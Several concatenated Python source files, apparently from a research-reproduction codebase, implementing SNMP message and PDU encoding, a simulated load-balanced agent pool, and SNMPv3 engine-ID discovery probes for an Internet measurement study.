from dataclasses import dataclass, field

from repro.net.packet import Datagram
from repro.snmp.agent import SnmpAgent


class BalancingPolicy(enum.Enum):
    """Dispatch policies seen in front of real services."""

    ROUND_ROBIN = "round-robin"
    SOURCE_HASH = "source-hash"


@dataclass
class AgentPool:
    """A virtual IP fronting several SNMP engines.

    With ``ROUND_ROBIN``, consecutive probes from anywhere rotate through
    the backends — the easiest signature to detect.  ``SOURCE_HASH`` pins
    each client to one backend, which hides the pool from a single-vantage
    prober (the detection experiment quantifies exactly this blind spot).
    """

    backends: list[SnmpAgent]
    policy: BalancingPolicy = BalancingPolicy.ROUND_ROBIN
    _rr_counter: int = field(default=0, repr=False)

    def __post_init__(self) -> None:
        if not self.backends:
            raise ValueError("an AgentPool needs at least one backend")

    def pick(self, datagram: Datagram) -> SnmpAgent:
        """Select the backend that will see this datagram."""
        if self.policy is BalancingPolicy.SOURCE_HASH:
            # Source-IP affinity (not 5-tuple): one client always lands on
            # the same backend, hiding the pool from a single vantage.
            return self.backends[int(datagram.src) % len(self.backends)]
        backend = self.backends[self._rr_counter % len(self.backends)]
        self._rr_counter += 1
        return backend

    def handle_datagram(self, datagram: Datagram, now: float) -> list[bytes]:
        """Fabric adapter mirroring :meth:`SnmpAgent.handle_datagram`."""
        return self.pick(datagram).handle(datagram.payload, now)

    def handle_discovery(
        self,
        payload: bytes,
        msg_id: int,
        request_id: int,
        now: float,
        source: "object | None" = None,
    ) -> list[bytes]:
        """Hinted fast path mirroring :meth:`SnmpAgent.handle_discovery`.

        Backend selection matches :meth:`pick` exactly: ``source`` is the
        probe's source address (what ``datagram.src`` would have been), so
        source-hash affinity and the round-robin counter advance just as
        they would on the :meth:`handle_datagram` path.
        """
        if self.policy is BalancingPolicy.SOURCE_HASH:
            backend = self.backends[int(source) % len(self.backends)]  # type: ignore[call-overload]
        else:
            backend = self.backends[self._rr_counter % len(self.backends)]
            self._rr_counter += 1
        return backend.handle_discovery(payload, msg_id, request_id, now, source)

    @property
    def engine_ids(self) -> list[bytes]:
        """Ground truth: every engine ID behind the VIP."""
        return [agent.engine_id.raw for agent in self.backends]

    def __len__(self) -> int:
        return len(self.backends)
