"""SNMP PDUs (RFC 3416) and variable bindings.

A PDU is a context-tagged structure::

    PDU ::= [tag] IMPLICIT SEQUENCE {
        request-id   INTEGER,
        error-status INTEGER,
        error-index  INTEGER,
        variable-bindings SEQUENCE OF SEQUENCE { name OID, value ANY }
    }

Values support the universal and SNMP application types the system group
and usmStats need: INTEGER, OCTET STRING, NULL, OID, Counter32, Gauge32,
TimeTicks and Counter64.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Union

from repro.asn1 import ber
from repro.asn1.oid import Oid
from repro.snmp import constants

# The Python-side value space for varbinds.
VarValue = Union[int, bytes, None, Oid, "Counter32", "Gauge32", "TimeTicks", "Counter64"]


class _AppInt(int):
    """Base for SNMP application integer types (tagged unsigned INTEGERs)."""

    TAG: int = ber.TAG_INTEGER

    def __repr__(self) -> str:  # pragma: no cover - cosmetic
        return f"{type(self).__name__}({int(self)})"


class Counter32(_AppInt):
    """A 32-bit wrapping counter (APPLICATION 1)."""

    TAG = ber.TAG_COUNTER32


class Gauge32(_AppInt):
    """A 32-bit gauge (APPLICATION 2)."""

    TAG = ber.TAG_GAUGE32


class TimeTicks(_AppInt):
    """Hundredths of seconds since an epoch (APPLICATION 3)."""

    TAG = ber.TAG_TIMETICKS


class Counter64(_AppInt):
    """A 64-bit wrapping counter (APPLICATION 6)."""

    TAG = ber.TAG_COUNTER64


_APP_TYPES = {cls.TAG: cls for cls in (Counter32, Gauge32, TimeTicks, Counter64)}


def encode_value(value: VarValue) -> bytes:
    """Encode a varbind value with its proper tag."""
    if value is None:
        return ber.encode_null()
    if isinstance(value, Oid):
        return ber.encode_oid(value)
    if isinstance(value, _AppInt):
        return ber.encode_unsigned(int(value), value.TAG)
    if isinstance(value, bool):
        raise ber.BerEncodeError("SNMP has no BOOLEAN varbind type")
    if isinstance(value, int):
        return ber.encode_integer(value)
    if isinstance(value, (bytes, bytearray)):
        return ber.encode_octet_string(bytes(value))
    raise ber.BerEncodeError(f"cannot encode varbind value of type {type(value).__name__}")


def decode_value(buf: bytes, offset: int) -> tuple[VarValue, int]:
    """Decode a varbind value, dispatching on the tag byte."""
    tag_byte, content, next_offset = ber.decode_tlv(buf, offset)
    if tag_byte == ber.TAG_NULL:
        return None, next_offset
    if tag_byte == ber.TAG_INTEGER:
        return ber.decode_integer_content(content), next_offset
    if tag_byte == ber.TAG_OCTET_STRING:
        return content, next_offset
    if tag_byte == ber.TAG_OID:
        oid, __ = ber.decode_oid(buf, offset)
        return oid, next_offset
    app_type = _APP_TYPES.get(tag_byte)
    if app_type is not None:
        return app_type(ber.decode_integer_content(content)), next_offset
    if tag_byte == ber.TAG_IPADDRESS:
        return content, next_offset
    raise ber.BerDecodeError(f"unsupported varbind value tag 0x{tag_byte:02x}")


@dataclass(frozen=True)
class VarBind:
    """A single (OID, value) pair."""

    name: Oid
    value: VarValue = None

    def encode(self) -> bytes:
        return ber.encode_sequence(ber.encode_oid(self.name), encode_value(self.value))

    @classmethod
    def decode(cls, buf: bytes, offset: int) -> tuple["VarBind", int]:
        content, next_offset = ber.decode_sequence(buf, offset)
        name, value_offset = ber.decode_oid(content, 0)
        value, end = decode_value(content, value_offset)
        if end != len(content):
            raise ber.BerDecodeError("trailing bytes inside VarBind")
        return cls(name=name, value=value), next_offset


@dataclass(frozen=True)
class Pdu:
    """A decoded SNMP PDU of any type."""

    tag: int
    request_id: int
    error_status: int = constants.ERR_NO_ERROR
    error_index: int = 0
    varbinds: tuple[VarBind, ...] = ()

    def __post_init__(self) -> None:
        if self.tag not in constants.PDU_TAGS:
            raise ValueError(f"unknown PDU tag 0x{self.tag:02x}")

    @property
    def is_report(self) -> bool:
        return self.tag == constants.TAG_REPORT

    @property
    def is_response(self) -> bool:
        return self.tag == constants.TAG_RESPONSE

    def encode(self) -> bytes:
        body = (
            ber.encode_integer(self.request_id)
            + ber.encode_integer(self.error_status)
            + ber.encode_integer(self.error_index)
            + ber.encode_sequence(*(vb.encode() for vb in self.varbinds))
        )
        return ber.encode_tlv(self.tag, body)

    @classmethod
    def decode(cls, buf: bytes, offset: int = 0) -> tuple["Pdu", int]:
        tag_byte, content, next_offset = ber.decode_tlv(buf, offset)
        if tag_byte not in constants.PDU_TAGS:
            raise ber.BerDecodeError(f"not a PDU tag: 0x{tag_byte:02x}")
        request_id, pos = ber.decode_integer(content, 0)
        error_status, pos = ber.decode_integer(content, pos)
        error_index, pos = ber.decode_integer(content, pos)
        vb_content, pos = ber.decode_sequence(content, pos)
        if pos != len(content):
            raise ber.BerDecodeError("trailing bytes inside PDU")
        varbinds = []
        vb_pos = 0
        while vb_pos < len(vb_content):
            varbind, vb_pos = VarBind.decode(vb_content, vb_pos)
            varbinds.append(varbind)
        return (
            cls(
                tag=tag_byte,
                request_id=request_id,
                error_status=error_status,
                error_index=error_index,
                varbinds=tuple(varbinds),
            ),
            next_offset,
        )


def get_request(request_id: int, *names: Oid) -> Pdu:
    """Build a GetRequest PDU for the given OIDs."""
    return Pdu(
        tag=constants.TAG_GET_REQUEST,
        request_id=request_id,
        varbinds=tuple(VarBind(name) for name in names),
    )


def report(request_id: int, counter_oid: Oid, counter_value: int) -> Pdu:
    """Build a Report PDU carrying one usmStats counter."""
    return Pdu(
        tag=constants.TAG_REPORT,
        request_id=request_id,
        varbinds=(VarBind(counter_oid, Counter32(counter_value)),),
    )


def response(request_id: int, varbinds: tuple[VarBind, ...], error_status: int = 0,
             error_index: int = 0) -> Pdu:
    """Build a Response PDU."""
    return Pdu(
        tag=constants.TAG_RESPONSE,
        request_id=request_id,
        error_status=error_status,
        error_index=error_index,
        varbinds=varbinds,
    )
