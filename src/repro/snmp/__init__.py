"""SNMP protocol implementation (v1/v2c/v3) built on the BER codec.

The subset implemented is the complete surface the paper exercises:

* :mod:`repro.snmp.engine_id` — the RFC 3411 engine-ID formats, parsing
  and classification (MAC / IPv4 / IPv6 / Text / Octets / Net-SNMP /
  non-conforming), which drives Figure 5 and the vendor fingerprinting;
* :mod:`repro.snmp.usm` — the User-based Security Model of RFC 3414:
  password-to-key stretching, key localization against the engine ID, and
  HMAC-MD5-96 / HMAC-SHA1-96 authentication;
* :mod:`repro.snmp.pdu` / :mod:`repro.snmp.messages` — PDU and message
  encode/decode for SNMPv1, v2c and v3 (plaintext scoped PDUs, USM
  security parameters, Report PDUs);
* :mod:`repro.snmp.mib` — a small MIB-II subset (system group, usmStats);
* :mod:`repro.snmp.agent` — a stateful SNMP engine with vendor behaviour
  profiles (engine-ID policy, v2c-implies-v3, amplification bug, shared
  engine-ID bug);
* :mod:`repro.snmp.client` — the manager side: build discovery probes,
  parse responses, perform authenticated GETs in a lab setting.
"""

from repro.snmp.engine_id import EngineId, EngineIdFormat
from repro.snmp.messages import (
    SnmpV3Message,
    UsmSecurityParameters,
    build_discovery_probe,
    parse_discovery_response,
)
from repro.snmp.agent import AgentBehavior, SnmpAgent
from repro.snmp.client import DiscoveryResult, SnmpClient

__all__ = [
    "AgentBehavior",
    "DiscoveryResult",
    "EngineId",
    "EngineIdFormat",
    "SnmpAgent",
    "SnmpClient",
    "SnmpV3Message",
    "UsmSecurityParameters",
    "build_discovery_probe",
    "parse_discovery_response",
]
