"""SNMP message framing: v1/v2c community messages and SNMPv3 (RFC 3412).

The SNMPv3 message the scanner sends — the *unsolicited synchronization
request* of the paper's Figure 2 — is a regular v3 GET with:

* an **empty** ``msgAuthoritativeEngineID``,
* zero ``msgAuthoritativeEngineBoots`` / ``msgAuthoritativeEngineTime``,
* an empty user name and no authentication/privacy parameters,
* the *reportable* flag set, so the agent answers with a Report PDU.

The agent's Report (Figure 3) carries its real engine ID, boots and time
in the security parameters — that triple is everything the paper's
measurement machinery consumes.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.asn1 import ber
from repro.snmp import constants
from repro.snmp.pdu import Pdu


@dataclass(frozen=True)
class UsmSecurityParameters:
    """The UsmSecurityParameters SEQUENCE (RFC 3414 §2.4)."""

    engine_id: bytes = b""
    engine_boots: int = 0
    engine_time: int = 0
    user_name: bytes = b""
    auth_params: bytes = b""
    priv_params: bytes = b""

    def encode(self) -> bytes:
        body = ber.encode_sequence(
            ber.encode_octet_string(self.engine_id),
            ber.encode_integer(self.engine_boots),
            ber.encode_integer(self.engine_time),
            ber.encode_octet_string(self.user_name),
            ber.encode_octet_string(self.auth_params),
            ber.encode_octet_string(self.priv_params),
        )
        return body

    @classmethod
    def decode(cls, buf: bytes) -> "UsmSecurityParameters":
        content, end = ber.decode_sequence(buf, 0)
        if end != len(buf):
            raise ber.BerDecodeError("trailing bytes after UsmSecurityParameters")
        engine_id, pos = ber.decode_octet_string(content, 0)
        engine_boots, pos = ber.decode_integer(content, pos)
        engine_time, pos = ber.decode_integer(content, pos)
        user_name, pos = ber.decode_octet_string(content, pos)
        auth_params, pos = ber.decode_octet_string(content, pos)
        priv_params, pos = ber.decode_octet_string(content, pos)
        if pos != len(content):
            raise ber.BerDecodeError("trailing bytes inside UsmSecurityParameters")
        return cls(
            engine_id=engine_id,
            engine_boots=engine_boots,
            engine_time=engine_time,
            user_name=user_name,
            auth_params=auth_params,
            priv_params=priv_params,
        )


@dataclass(frozen=True)
class ScopedPdu:
    """A plaintext scoped PDU (RFC 3412 §6.8)."""

    context_engine_id: bytes
    context_name: bytes
    pdu: Pdu

    def encode(self) -> bytes:
        return ber.encode_sequence(
            ber.encode_octet_string(self.context_engine_id),
            ber.encode_octet_string(self.context_name),
            self.pdu.encode(),
        )

    @classmethod
    def decode(cls, buf: bytes, offset: int) -> tuple["ScopedPdu", int]:
        content, next_offset = ber.decode_sequence(buf, offset)
        context_engine_id, pos = ber.decode_octet_string(content, 0)
        context_name, pos = ber.decode_octet_string(content, pos)
        pdu, pos = Pdu.decode(content, pos)
        if pos != len(content):
            raise ber.BerDecodeError("trailing bytes inside ScopedPDU")
        return cls(context_engine_id, context_name, pdu), next_offset


@dataclass(frozen=True)
class SnmpV3Message:
    """A complete SNMPv3 message.

    ``scoped_pdu`` carries the plaintext payload; when the priv flag is
    set the payload travels as ``encrypted_pdu`` ciphertext instead
    (AES-128-CFB per RFC 3826 — see :mod:`repro.snmp.usm`).  The
    discovery exchange the paper measures is always plaintext.
    """

    msg_id: int
    max_size: int = constants.DEFAULT_MAX_SIZE
    flags: int = constants.FLAG_REPORTABLE
    security_model: int = constants.SECURITY_MODEL_USM
    security: UsmSecurityParameters = field(default_factory=UsmSecurityParameters)
    scoped_pdu: "ScopedPdu | None" = None
    #: Ciphertext of the scoped PDU when the priv flag is set.
    encrypted_pdu: "bytes | None" = None

    @property
    def is_reportable(self) -> bool:
        return bool(self.flags & constants.FLAG_REPORTABLE)

    @property
    def is_authenticated(self) -> bool:
        return bool(self.flags & constants.FLAG_AUTH)

    @property
    def is_encrypted(self) -> bool:
        return bool(self.flags & constants.FLAG_PRIV)

    def encode(self) -> bytes:
        if self.is_encrypted:
            if self.encrypted_pdu is None:
                raise ValueError("priv flag set but no encrypted PDU present")
            msg_data = ber.encode_octet_string(self.encrypted_pdu)
        else:
            if self.scoped_pdu is None:
                raise ValueError("cannot encode a message without a scoped PDU")
            msg_data = self.scoped_pdu.encode()
        global_data = ber.encode_sequence(
            ber.encode_integer(self.msg_id),
            ber.encode_integer(self.max_size),
            ber.encode_octet_string(bytes([self.flags])),
            ber.encode_integer(self.security_model),
        )
        return ber.encode_sequence(
            ber.encode_integer(constants.VERSION_3),
            global_data,
            ber.encode_octet_string(self.security.encode()),
            msg_data,
        )

    @classmethod
    def decode(cls, buf: bytes) -> "SnmpV3Message":
        content, end = ber.decode_sequence(buf, 0)
        if end != len(buf):
            raise ber.BerDecodeError("trailing bytes after SNMPv3 message")
        version, pos = ber.decode_integer(content, 0)
        if version != constants.VERSION_3:
            raise ber.BerDecodeError(f"not an SNMPv3 message (version={version})")
        global_data, pos = ber.decode_sequence(content, pos)
        msg_id, gpos = ber.decode_integer(global_data, 0)
        max_size, gpos = ber.decode_integer(global_data, gpos)
        flags_octets, gpos = ber.decode_octet_string(global_data, gpos)
        if len(flags_octets) != 1:
            raise ber.BerDecodeError("msgFlags must be a single octet")
        security_model, gpos = ber.decode_integer(global_data, gpos)
        if gpos != len(global_data):
            raise ber.BerDecodeError("trailing bytes inside msgGlobalData")
        security_blob, pos = ber.decode_octet_string(content, pos)
        security = UsmSecurityParameters.decode(security_blob)
        flags = flags_octets[0]
        scoped_pdu = None
        encrypted_pdu = None
        if flags & constants.FLAG_PRIV:
            encrypted_pdu, pos = ber.decode_octet_string(content, pos)
        else:
            scoped_pdu, pos = ScopedPdu.decode(content, pos)
        if pos != len(content):
            raise ber.BerDecodeError("trailing bytes after ScopedPDU")
        return cls(
            msg_id=msg_id,
            max_size=max_size,
            flags=flags,
            security_model=security_model,
            security=security,
            scoped_pdu=scoped_pdu,
            encrypted_pdu=encrypted_pdu,
        )


@dataclass(frozen=True)
class CommunityMessage:
    """An SNMPv1 or v2c message: version, community string, PDU."""

    version: int
    community: bytes
    pdu: Pdu

    def __post_init__(self) -> None:
        if self.version not in (constants.VERSION_1, constants.VERSION_2C):
            raise ValueError(f"community messages are v1/v2c only, got {self.version}")

    def encode(self) -> bytes:
        return ber.encode_sequence(
            ber.encode_integer(self.version),
            ber.encode_octet_string(self.community),
            self.pdu.encode(),
        )

    @classmethod
    def decode(cls, buf: bytes) -> "CommunityMessage":
        content, end = ber.decode_sequence(buf, 0)
        if end != len(buf):
            raise ber.BerDecodeError("trailing bytes after community message")
        version, pos = ber.decode_integer(content, 0)
        community, pos = ber.decode_octet_string(content, pos)
        pdu, pos = Pdu.decode(content, pos)
        if pos != len(content):
            raise ber.BerDecodeError("trailing bytes after PDU")
        return cls(version=version, community=community, pdu=pdu)


def peek_version(buf: bytes) -> int:
    """Return the msgVersion of a raw SNMP datagram without a full parse."""
    content, __ = ber.decode_sequence(buf, 0)
    version, __ = ber.decode_integer(content, 0)
    return version


def build_discovery_probe(msg_id: int, request_id: "int | None" = None) -> SnmpV3Message:
    """Build the unsolicited synchronization request of Figure 2.

    Empty engine ID, zero boots/time, empty user, reportable flag set, and
    a GET PDU with an empty varbind list inside a scoped PDU with empty
    context.  This is the exact single packet the scanner sends per target.
    """
    pdu = Pdu(
        tag=constants.TAG_GET_REQUEST,
        request_id=msg_id if request_id is None else request_id,
    )
    return SnmpV3Message(
        msg_id=msg_id,
        flags=constants.FLAG_REPORTABLE,
        scoped_pdu=ScopedPdu(context_engine_id=b"", context_name=b"", pdu=pdu),
    )


# Constant fragments of the discovery probe.  Everything except the two
# msg_id/request_id INTEGERs is identical across probes, so the sharded
# executor's hot loop can assemble the wire bytes from four joins instead
# of building and encoding the full message object graph per target.
_PROBE_VERSION = ber.encode_integer(constants.VERSION_3)
_PROBE_GLOBAL_TAIL = (
    ber.encode_integer(constants.DEFAULT_MAX_SIZE)
    + ber.encode_octet_string(bytes([constants.FLAG_REPORTABLE]))
    + ber.encode_integer(constants.SECURITY_MODEL_USM)
)
_PROBE_SECURITY = ber.encode_octet_string(UsmSecurityParameters().encode())
_PROBE_EMPTY_OCTETS = ber.encode_octet_string(b"")
_PROBE_PDU_TAIL = (
    ber.encode_integer(0) + ber.encode_integer(0) + ber.encode_sequence()
)


def encode_discovery_probe(msg_id: int, request_id: "int | None" = None) -> bytes:
    """Encode the Figure 2 probe directly to wire bytes.

    Byte-identical to ``build_discovery_probe(msg_id).encode()`` but an
    order of magnitude cheaper — the scan executor calls this once per
    target.
    """
    msg_id_tlv = ber.encode_integer(msg_id)
    request_tlv = (
        msg_id_tlv if request_id is None else ber.encode_integer(request_id)
    )
    pdu = ber.encode_tlv(
        constants.TAG_GET_REQUEST, request_tlv + _PROBE_PDU_TAIL
    )
    scoped_pdu = ber.encode_sequence(
        _PROBE_EMPTY_OCTETS, _PROBE_EMPTY_OCTETS, pdu
    )
    global_data = ber.encode_sequence(msg_id_tlv + _PROBE_GLOBAL_TAIL)
    return ber.encode_sequence(
        _PROBE_VERSION, global_data, _PROBE_SECURITY, scoped_pdu
    )


def match_discovery_probe(payload: bytes) -> "tuple[int, int] | None":
    """Structurally match a Figure 2 discovery probe without a full decode.

    Returns ``(msg_id, request_id)`` when ``payload`` is byte-for-byte an
    :func:`encode_discovery_probe` output — the only SNMPv3 packet the
    scanner ever sends — and ``None`` otherwise.  Agents use a successful
    match to take the cached report-template fast path; any mismatch
    (hand-crafted packets, corrupted probes) falls back to the full
    decoder, so observable behaviour never diverges.
    """
    try:
        content, end = ber.decode_sequence(payload, 0)
        if end != len(payload) or not content.startswith(_PROBE_VERSION):
            return None
        pos = len(_PROBE_VERSION)
        global_data, pos = ber.decode_sequence(content, pos)
        msg_id, gpos = ber.decode_integer(global_data, 0)
        if global_data[gpos:] != _PROBE_GLOBAL_TAIL:
            return None
        if content[pos : pos + len(_PROBE_SECURITY)] != _PROBE_SECURITY:
            return None
        pos += len(_PROBE_SECURITY)
        scoped, spos = ber.decode_sequence(content, pos)
        if spos != len(content):
            return None
        contexts = _PROBE_EMPTY_OCTETS + _PROBE_EMPTY_OCTETS
        if not scoped.startswith(contexts):
            return None
        pdu_body, ppos = ber.expect_tag(
            scoped, len(contexts), constants.TAG_GET_REQUEST, "GetRequest"
        )
        if ppos != len(scoped):
            return None
        request_id, rpos = ber.decode_integer(pdu_body, 0)
        if pdu_body[rpos:] != _PROBE_PDU_TAIL:
            return None
    except ber.BerDecodeError:
        return None
    return msg_id, request_id


# Constant fragments of the discovery Report reply (Figure 3).  The reply's
# global data differs from the probe's in one byte (msgFlags 0x00 — not
# reportable, no auth) and its PDU is a Report carrying the
# usmStatsUnknownEngineIDs counter.
_REPORT_GLOBAL_TAIL = (
    ber.encode_integer(constants.DEFAULT_MAX_SIZE)
    + ber.encode_octet_string(b"\x00")
    + ber.encode_integer(constants.SECURITY_MODEL_USM)
)
_REPORT_SECURITY_SUFFIX = _PROBE_EMPTY_OCTETS * 3
_REPORT_COUNTER_OID = ber.encode_oid(constants.OID_USM_STATS_UNKNOWN_ENGINE_IDS)
_REPORT_ERROR_FIELDS = ber.encode_integer(0) + ber.encode_integer(0)


class DiscoveryReportTemplate:
    """Pre-encoded invariant fragments of one agent's discovery Report.

    An engine's ID and boots counter are stable between reboots, so an
    agent answering an Internet-wide scan would re-encode the exact same
    security and scoped-PDU prefixes millions of times.  The template
    freezes those fragments once per ``(engine ID, boots)`` pair and
    :meth:`render` splices in the four per-probe integers (msg id,
    request id, engine time, usmStats counter).  Output is byte-identical
    to the full ``SnmpV3Message.encode`` path — asserted by the property
    test in ``tests/snmp/test_report_fast_path.py``.
    """

    __slots__ = ("engine_id", "engine_boots", "_security_prefix", "_scoped_prefix")

    def __init__(self, engine_id: bytes, engine_boots: int) -> None:
        self.engine_id = engine_id
        self.engine_boots = engine_boots
        self._security_prefix = (
            ber.encode_octet_string(engine_id) + ber.encode_integer(engine_boots)
        )
        self._scoped_prefix = ber.encode_octet_string(engine_id) + _PROBE_EMPTY_OCTETS

    def render(
        self, *, msg_id: int, request_id: int, engine_time: int, counter_value: int
    ) -> bytes:
        """Encode the full Report reply for one probe."""
        security = ber.encode_octet_string(
            ber.encode_sequence(
                self._security_prefix
                + ber.encode_integer(engine_time)
                + _REPORT_SECURITY_SUFFIX
            )
        )
        varbinds = ber.encode_sequence(
            ber.encode_sequence(
                _REPORT_COUNTER_OID
                + ber.encode_unsigned(counter_value, ber.TAG_COUNTER32)
            )
        )
        report_pdu = ber.encode_tlv(
            constants.TAG_REPORT,
            ber.encode_integer(request_id) + _REPORT_ERROR_FIELDS + varbinds,
        )
        global_data = ber.encode_sequence(
            ber.encode_integer(msg_id) + _REPORT_GLOBAL_TAIL
        )
        return ber.encode_sequence(
            _PROBE_VERSION,
            global_data,
            security,
            ber.encode_sequence(self._scoped_prefix + report_pdu),
        )


@dataclass(frozen=True)
class DiscoveryReply:
    """The fields of Figure 3 that the measurement pipeline consumes."""

    engine_id: bytes
    engine_boots: int
    engine_time: int
    msg_id: int


def parse_discovery_response(payload: bytes) -> DiscoveryReply:
    """Parse an agent's Report reply to a discovery probe.

    Raises :class:`ber.BerDecodeError` on malformed payloads; the scanner
    records those as invalid responses (they feed the "missing engine ID"
    filter of §4.4).
    """
    message = SnmpV3Message.decode(payload)
    return DiscoveryReply(
        engine_id=message.security.engine_id,
        engine_boots=message.security.engine_boots,
        engine_time=message.security.engine_time,
        msg_id=message.msg_id,
    )
