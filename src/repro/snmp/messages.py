"""SNMP message framing: v1/v2c community messages and SNMPv3 (RFC 3412).

The SNMPv3 message the scanner sends — the *unsolicited synchronization
request* of the paper's Figure 2 — is a regular v3 GET with:

* an **empty** ``msgAuthoritativeEngineID``,
* zero ``msgAuthoritativeEngineBoots`` / ``msgAuthoritativeEngineTime``,
* an empty user name and no authentication/privacy parameters,
* the *reportable* flag set, so the agent answers with a Report PDU.

The agent's Report (Figure 3) carries its real engine ID, boots and time
in the security parameters — that triple is everything the paper's
measurement machinery consumes.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Sequence

from repro.asn1 import ber
from repro.snmp import constants
from repro.snmp.pdu import Pdu


@dataclass(frozen=True)
class UsmSecurityParameters:
    """The UsmSecurityParameters SEQUENCE (RFC 3414 §2.4)."""

    engine_id: bytes = b""
    engine_boots: int = 0
    engine_time: int = 0
    user_name: bytes = b""
    auth_params: bytes = b""
    priv_params: bytes = b""

    def encode(self) -> bytes:
        body = ber.encode_sequence(
            ber.encode_octet_string(self.engine_id),
            ber.encode_integer(self.engine_boots),
            ber.encode_integer(self.engine_time),
            ber.encode_octet_string(self.user_name),
            ber.encode_octet_string(self.auth_params),
            ber.encode_octet_string(self.priv_params),
        )
        return body

    @classmethod
    def decode(cls, buf: bytes) -> "UsmSecurityParameters":
        content, end = ber.decode_sequence(buf, 0)
        if end != len(buf):
            raise ber.BerDecodeError("trailing bytes after UsmSecurityParameters")
        engine_id, pos = ber.decode_octet_string(content, 0)
        engine_boots, pos = ber.decode_integer(content, pos)
        engine_time, pos = ber.decode_integer(content, pos)
        user_name, pos = ber.decode_octet_string(content, pos)
        auth_params, pos = ber.decode_octet_string(content, pos)
        priv_params, pos = ber.decode_octet_string(content, pos)
        if pos != len(content):
            raise ber.BerDecodeError("trailing bytes inside UsmSecurityParameters")
        return cls(
            engine_id=engine_id,
            engine_boots=engine_boots,
            engine_time=engine_time,
            user_name=user_name,
            auth_params=auth_params,
            priv_params=priv_params,
        )


@dataclass(frozen=True)
class ScopedPdu:
    """A plaintext scoped PDU (RFC 3412 §6.8)."""

    context_engine_id: bytes
    context_name: bytes
    pdu: Pdu

    def encode(self) -> bytes:
        return ber.encode_sequence(
            ber.encode_octet_string(self.context_engine_id),
            ber.encode_octet_string(self.context_name),
            self.pdu.encode(),
        )

    @classmethod
    def decode(cls, buf: bytes, offset: int) -> tuple["ScopedPdu", int]:
        content, next_offset = ber.decode_sequence(buf, offset)
        context_engine_id, pos = ber.decode_octet_string(content, 0)
        context_name, pos = ber.decode_octet_string(content, pos)
        pdu, pos = Pdu.decode(content, pos)
        if pos != len(content):
            raise ber.BerDecodeError("trailing bytes inside ScopedPDU")
        return cls(context_engine_id, context_name, pdu), next_offset


@dataclass(frozen=True)
class SnmpV3Message:
    """A complete SNMPv3 message.

    ``scoped_pdu`` carries the plaintext payload; when the priv flag is
    set the payload travels as ``encrypted_pdu`` ciphertext instead
    (AES-128-CFB per RFC 3826 — see :mod:`repro.snmp.usm`).  The
    discovery exchange the paper measures is always plaintext.
    """

    msg_id: int
    max_size: int = constants.DEFAULT_MAX_SIZE
    flags: int = constants.FLAG_REPORTABLE
    security_model: int = constants.SECURITY_MODEL_USM
    security: UsmSecurityParameters = field(default_factory=UsmSecurityParameters)
    scoped_pdu: "ScopedPdu | None" = None
    #: Ciphertext of the scoped PDU when the priv flag is set.
    encrypted_pdu: "bytes | None" = None

    @property
    def is_reportable(self) -> bool:
        return bool(self.flags & constants.FLAG_REPORTABLE)

    @property
    def is_authenticated(self) -> bool:
        return bool(self.flags & constants.FLAG_AUTH)

    @property
    def is_encrypted(self) -> bool:
        return bool(self.flags & constants.FLAG_PRIV)

    def encode(self) -> bytes:
        if self.is_encrypted:
            if self.encrypted_pdu is None:
                raise ValueError("priv flag set but no encrypted PDU present")
            msg_data = ber.encode_octet_string(self.encrypted_pdu)
        else:
            if self.scoped_pdu is None:
                raise ValueError("cannot encode a message without a scoped PDU")
            msg_data = self.scoped_pdu.encode()
        global_data = ber.encode_sequence(
            ber.encode_integer(self.msg_id),
            ber.encode_integer(self.max_size),
            ber.encode_octet_string(bytes([self.flags])),
            ber.encode_integer(self.security_model),
        )
        return ber.encode_sequence(
            ber.encode_integer(constants.VERSION_3),
            global_data,
            ber.encode_octet_string(self.security.encode()),
            msg_data,
        )

    @classmethod
    def decode(cls, buf: bytes) -> "SnmpV3Message":
        content, end = ber.decode_sequence(buf, 0)
        if end != len(buf):
            raise ber.BerDecodeError("trailing bytes after SNMPv3 message")
        version, pos = ber.decode_integer(content, 0)
        if version != constants.VERSION_3:
            raise ber.BerDecodeError(f"not an SNMPv3 message (version={version})")
        global_data, pos = ber.decode_sequence(content, pos)
        msg_id, gpos = ber.decode_integer(global_data, 0)
        max_size, gpos = ber.decode_integer(global_data, gpos)
        flags_octets, gpos = ber.decode_octet_string(global_data, gpos)
        if len(flags_octets) != 1:
            raise ber.BerDecodeError("msgFlags must be a single octet")
        security_model, gpos = ber.decode_integer(global_data, gpos)
        if gpos != len(global_data):
            raise ber.BerDecodeError("trailing bytes inside msgGlobalData")
        security_blob, pos = ber.decode_octet_string(content, pos)
        security = UsmSecurityParameters.decode(security_blob)
        flags = flags_octets[0]
        scoped_pdu = None
        encrypted_pdu = None
        if flags & constants.FLAG_PRIV:
            encrypted_pdu, pos = ber.decode_octet_string(content, pos)
        else:
            scoped_pdu, pos = ScopedPdu.decode(content, pos)
        if pos != len(content):
            raise ber.BerDecodeError("trailing bytes after ScopedPDU")
        return cls(
            msg_id=msg_id,
            max_size=max_size,
            flags=flags,
            security_model=security_model,
            security=security,
            scoped_pdu=scoped_pdu,
            encrypted_pdu=encrypted_pdu,
        )


@dataclass(frozen=True)
class CommunityMessage:
    """An SNMPv1 or v2c message: version, community string, PDU."""

    version: int
    community: bytes
    pdu: Pdu

    def __post_init__(self) -> None:
        if self.version not in (constants.VERSION_1, constants.VERSION_2C):
            raise ValueError(f"community messages are v1/v2c only, got {self.version}")

    def encode(self) -> bytes:
        return ber.encode_sequence(
            ber.encode_integer(self.version),
            ber.encode_octet_string(self.community),
            self.pdu.encode(),
        )

    @classmethod
    def decode(cls, buf: bytes) -> "CommunityMessage":
        content, end = ber.decode_sequence(buf, 0)
        if end != len(buf):
            raise ber.BerDecodeError("trailing bytes after community message")
        version, pos = ber.decode_integer(content, 0)
        community, pos = ber.decode_octet_string(content, pos)
        pdu, pos = Pdu.decode(content, pos)
        if pos != len(content):
            raise ber.BerDecodeError("trailing bytes after PDU")
        return cls(version=version, community=community, pdu=pdu)


def peek_version(buf: bytes) -> int:
    """Return the msgVersion of a raw SNMP datagram without a full parse."""
    content, __ = ber.decode_sequence(buf, 0)
    version, __ = ber.decode_integer(content, 0)
    return version


def build_discovery_probe(msg_id: int, request_id: "int | None" = None) -> SnmpV3Message:
    """Build the unsolicited synchronization request of Figure 2.

    Empty engine ID, zero boots/time, empty user, reportable flag set, and
    a GET PDU with an empty varbind list inside a scoped PDU with empty
    context.  This is the exact single packet the scanner sends per target.
    """
    pdu = Pdu(
        tag=constants.TAG_GET_REQUEST,
